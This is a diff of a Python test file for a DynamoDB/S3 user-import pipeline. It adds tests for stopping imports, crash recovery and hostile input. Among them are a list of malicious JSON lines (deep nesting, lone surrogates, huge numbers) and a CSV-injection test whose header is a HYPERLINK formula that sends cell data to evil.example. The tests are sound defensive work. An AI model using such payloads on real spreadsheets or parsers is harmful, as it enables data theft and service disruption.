@@ -3,85 +3,34 @@
 One engine is enough: what an import asks of DynamoDB is what single changes ask, which is tested on both.
 """
 
+import csv
 import io
 import json
 import os
 import random
 from collections import Counter
-from collections.abc import Callable, Iterator
-from contextlib import contextmanager
-from dataclasses import dataclass
 from typing import Any
 
 import pytest
 
+from adapters.dynamodb import item_of
 from registrar import limits
 from registrar.errors import LedgerMismatch, TransientFault
 from registrar_client import export
 from registrar_client.check import Checker
 from registrar_client.check.tables import Tables
 from tests.integration import tables
+from tests.integration.deaths import Death, Dying, until_it_lives, watched
 from tests.integration.import_machine import BUCKET, ImportMachine, csv_of, step
 from tests.integration.sample_requests import request
 from tests.integration.tables import items_of
-from tests.memory_s3 import MemoryS3
 from tests.model import Answering
+from workflow import chunks
 
 pytestmark = pytest.mark.one_engine
 
 ROWS = int(os.environ.get("IMPORT_ROWS", "800"))
 """Of the large import; 10,000 in a longer run: make test IMPORT_ROWS=10000."""
-
-
-Watch = Callable[[str, str], None]
-
-
-class Death(BaseException):
-    """The end of a process: nothing in the code can catch it."""
-
-
-@pytest.fixture
-def s3() -> MemoryS3:
-    return MemoryS3()
-
-
-@pytest.fixture
-def imports(execute, engine, s3, monkeypatch) -> ImportMachine:
-    """Imports into this test's tables; in the end the checker must find nothing."""
-    monkeypatch.setenv("IMPORT_BUCKET", BUCKET)
-    for name in ("plan_import", "write_chunk", "audit_chunk", "finish_import"):
-        monkeypatch.setattr(step(name), "s3_client", s3)
-    for name in ("write_chunk", "audit_chunk"):
-        monkeypatch.setattr(step(name), "client", engine)
-    return ImportMachine(s3)
-
-
-@contextmanager
-def watched(engine: Any, s3: MemoryS3, watch: Watch) -> Iterator[None]:
-    """Call ``watch`` before and after each call of DynamoDB and of S3."""
-
-    def ask(event_name: str, **_named: Any) -> None:
-        side, _, operation = event_name.split(".")
-        watch(side, operation)
-
-    s3.hooks.append(watch)
-    for side in ("before-call", "after-call"):
-        engine.meta.events.register(f"{side}.dynamodb", ask)
-    try:
-        yield
-    finally:
-        s3.hooks.clear()
-        for side in ("before-call", "after-call"):
-            engine.meta.events.unregister(f"{side}.dynamodb", ask)
-
-
-def until_it_lives(handler: Any, event: Any) -> Any:
-    """Deliver an event as often as its process dies."""
-    while True:
-        try:
-            return handler(event, None)
-        except Death:
-            continue
 
 
 @pytest.fixture
@@ -213,20 +162,6 @@ def test_a_chunk_that_dies_at_any_call_is_run_again_and_answers_as_if_it_had_not
         assert list(checker.check()) == [], calls[at]
 
 
-@dataclass
-class Dying:
-    """Lets a process die at a call, and at those that follow, so many times."""
-
-    at: int
-    times: int
-
-    def __call__(self, _side: str, _operation: str) -> None:
-        self.at -= 1
-        if self.at < 0 and self.times:
-            self.times -= 1
-            raise Death
-
-
 def begin_anew(execute: Any, engine: Any, names: tables.Tables) -> None:
     for table, keys in ((names.users, ("pk",)), (names.ledger, ("user_id", "sequence"))):
         for item in items_of(engine, table):
@@ -318,9 +253,12 @@ def test_lines_of_json_are_sent_back_as_lines_of_json(imports):
 
 
 @pytest.mark.parametrize(
-    ("options", "done"), [({"fail_fast": 3}, 40), ({"tolerated_failure_percentage": 2}, 40), ({}, 120)]
+    ("options", "done"), [({"fail_fast": 3}, 21), ({"tolerated_failure_percentage": 2}, 21), ({}, 120)]
 )
-def test_an_import_stops_when_it_is_told_to(imports, small_chunks, options, done):
+def test_an_import_stops_in_the_middle_of_a_chunk_when_it_is_told_to(
+    imports, small_chunks, monkeypatch, options, done
+):
+    monkeypatch.setattr(chunks, "AT_ONCE", 1)
     rows = [person(number, **({"email": "no"} if number % 10 == 0 else {})) for number in range(100, 220)]
     summary = imports.run(csv_of(rows), **options)
     answered = summary["applied"] + summary["rejected"]
@@ -330,6 +268,63 @@ def test_an_import_stops_when_it_is_told_to(imports, small_chunks, options, done
     # What was left alone goes on with what was sent back.
     rest = imports.run(imports.text(summary, "failed.csv"))
     assert rest["applied"] + summary["applied"] == 108
+
+
+def test_an_import_that_stops_at_its_first_bad_row_follows_the_order_of_the_file(imports, small_chunks):
+    """Every other row is bad: what comes before the first of them is applied."""
+    bad = [{}, {"email": "no"}, {"user_id": "u 1"}, {"action": "explode"}, {"user_id": "", "tags": "x"}]
+    rows = [person(n, **({} if n < 30 or n % 2 else bad[n % 5])) for n in range(300)]
+    summary = imports.run(csv_of(rows), fail_fast=1)
+    report = imports.report(summary)
+    assert {line["outcome"] for line in report[:30]} == {"APPLIED"}
+    # Those in flight are answered; no chunk behind the first one has begun.
+    assert 1 <= summary["rejected"] <= chunks.AT_ONCE
+    assert {line["codes"] for line in report[40:]} == {"import_stopped"}
+
+
+def test_an_import_that_dies_for_good_before_its_audit_leaves_nothing_that_the_guard_does_not_deliver(
+    imports, engine, created_tables, monkeypatch
+):
+    """In the end the checker must find no receipt without its record, applied or rejected."""
+
+    def deliver(handler: Any, event: Any) -> Any:
+        if handler is step("audit_chunk").handler:
+            raise Death
+        return handler(event, None)
+
+    rows = [person(1), person(2, email="no"), {"user_id": "u-3", "action": "delete"}, {"user_id": "u 4"}]
+    with pytest.raises(Death):
+        imports.run(csv_of(rows), deliver=deliver)
+    receipts = [item for item in items_of(engine, created_tables.users) if item["pk"].startswith("CHANGE#")]
+    assert sorted(item["outcome"] for item in receipts) == ["APPLIED", "REJECTED", "REJECTED", "REJECTED"]
+    monkeypatch.setattr(step("guard_ledger"), "GRACE_SECONDS", 0)
+    assert step("guard_ledger").handler(stream_of(receipts), None) == {"batchItemFailures": []}
+    records = items_of(engine, created_tables.ledger)
+    assert sorted(map(str, records)) == sorted(
+        str({name: value for name, value in item.items() if name != "pk"}) for item in receipts
+    )
+
+
+def stream_of(receipts: list[dict[str, Any]]) -> dict[str, Any]:
+    """Return the event that Lambda makes of new receipts."""
+    return {
+        "Records": [
+            {
+                "dynamodb": {
+                    "SequenceNumber": str(number),
+                    "ApproximateCreationDateTime": 0,
+                    "NewImage": item_of(receipt),
+                }
+            }
+            for number, receipt in enumerate(receipts)
+        ]
+    }
+
+
+def test_a_rejected_row_costs_a_receipt_and_a_record(imports, requests_sent):
+    """Two plain puts, and no transaction: as a change by itself it costs twice that."""
+    imports.run(csv_of([{"user_id": f"u-{n}", "action": "explode"} for n in range(10)]))
+    assert Counter(requests_sent) == {"BatchGetItem": 1, "PutItem": 20}
 
 
 def test_a_chunk_that_is_stopped_after_it_had_begun_answers_what_it_did(imports, engine, both_tables):
@@ -363,7 +358,7 @@ def test_a_chunk_that_is_stopped_after_it_had_begun_answers_what_it_did(imports,
 def test_a_row_that_was_rejected_before_its_chunk_died_is_not_applied_after_the_rows_behind_it(
     imports, execute, engine, both_tables, begun_anew
 ):
-    """The rejection was not recorded yet, and the delete behind it has made the create possible."""
+    """Its receipt tells, though the delete behind it has made the create possible."""
     execute(request("create", "u-1", attributes={}))
     rows = [{"user_id": "u-1", "action": "create"}, {"user_id": "u-1", "action": "delete"}]
 
@@ -385,7 +380,7 @@ def test_a_row_that_was_rejected_before_its_chunk_died_is_not_applied_after_the_
         summary = imports.run(csv_of(rows))
     else:
         summary = imports.run(csv_of(rows), deliver=deliver)
-    assert [line["codes"] for line in imports.report(summary)] == ["out_of_turn", ""]
+    assert [line["codes"] for line in imports.report(summary)] == ["user_exists", ""]
     (user,) = [item for item in both_tables()[0] if item["pk"] == "USER#u-1"]
     assert (user["status"], user["version"]) == ("deleted", 2)
 
@@ -396,6 +391,61 @@ def test_an_import_again_reads_receipts_and_is_refused_no_transaction(imports, r
     requests_sent.clear()
     assert numbers(imports.run(content)) == (120, 0, 0, 120, 0)
     assert Counter(requests_sent) == {"BatchGetItem": 2, "PutItem": 120}
+
+
+def nested(levels: int) -> str:
+    """Return a line whose tags nest so deep."""
+    return '{"user_id": "u-2", "attributes": {"tags": ' + '{"a":' * levels + "1" + "}" * (levels + 2)
+
+
+HOSTILE = [
+    '{"change_id": "\\udfff", "attributes": {}}',
+    '{"change_id": "\\ud800\\udbff", "user_id": null, "attributes": {}, "reason": "\\udfff"}',
+    '{"\\udfff": 1, "attributes": {"tags": {"\\udfff": "x"}}}',
+    *(nested(levels) for levels in (30, 31, 32, 900, 984, 986, 989, 1000, 10_000)),
+    '{"user_id": "u-3", "attributes": {}, "expected_version": 1e999}',
+    '{"user_id": "u-3", "attributes": {"tags": {"a": -1E400}}}',
+    '{"user_id": "u-3", "attributes": {}, "expected_version": ' + "9" * 5000 + "}",
+    '{"user_id": "u-3", "attributes": {}, "expected_version": ' + "9" * 4000 + "}",
+    '{"user_id": "u-3", "attributes": {}, "expected_version": NaN}',
+    '{"user_id": {"a": ["b"]}, "change_id": ["c"], "action": {}, "attributes": []}',
+]
+
+
+@pytest.mark.parametrize("dry_run", [True, False])
+def test_a_row_of_any_content_is_answered_by_itself_and_sent_back_as_json(imports, dry_run):
+    lines = [*HOSTILE, '{"user_id": "u-1", "attributes": {}}']
+    summary = imports.run("\n".join(lines), name="users.jsonl", dry_run=dry_run)
+    assert numbers(summary) == (len(lines), 1, len(lines) - 1, 0, 0)
+    report = imports.report(summary)
+    assert {line["outcome"] for line in report[:-1]} == {"REJECTED"}
+    assert {line["codes"] for line in report[3:12]} >= {"bad_format"}
+    assert "nests deeper than 32 levels" in report[9]["messages"]
+    assert "not finite" in report[12]["messages"]
+    back = imports.text(summary, "failed.jsonl").splitlines()
+    assert len(back) == len(HOSTILE)
+    for line in back:
+        assert "import_errors" in json.loads(line, parse_constant=pytest.fail, parse_float=pytest.fail)
+
+
+def test_the_header_that_is_sent_back_is_run_by_no_spreadsheet_and_read_as_it_was(imports):
+    evil = '=HYPERLINK("http://evil.example/?x="&A1)'
+    content = csv_of([{"Login": "u 1", evil: "x", "＠note": "\n=1+1"}])  # noqa: RUF001
+    columns = {"Login": "user_id", evil: None, "＠note": "display_name"}  # noqa: RUF001
+    summary = imports.run(content, columns=columns)
+    assert numbers(summary) == (1, 0, 1, 0, 0)
+    failed = imports.text(summary, "failed.csv")
+    header, row = csv.reader(io.StringIO(failed, newline=""))
+    assert header == ["Login", f"'{evil}", "'＠note", "import_errors"]  # noqa: RUF001
+    assert row[:3] == ["u 1", "x", "'\n=1+1"]
+    again = imports.run(failed, columns=columns)
+    assert imports.report(again)[0]["codes"] == imports.report(summary)[0]["codes"]
+
+
+def test_a_csv_without_user_ids_makes_users_and_rejects_what_is_no_create(imports):
+    summary = imports.run("action,username\n,ada\ncreate,bob\nupdate,eve\n")
+    assert numbers(summary) == (3, 2, 1, 0, 0)
+    assert [line["paths"] for line in imports.report(summary)] == ["", "", "/user_id"]
 
 
 @pytest.mark.parametrize("unusable", [5, None, "a b", {"x": []}])
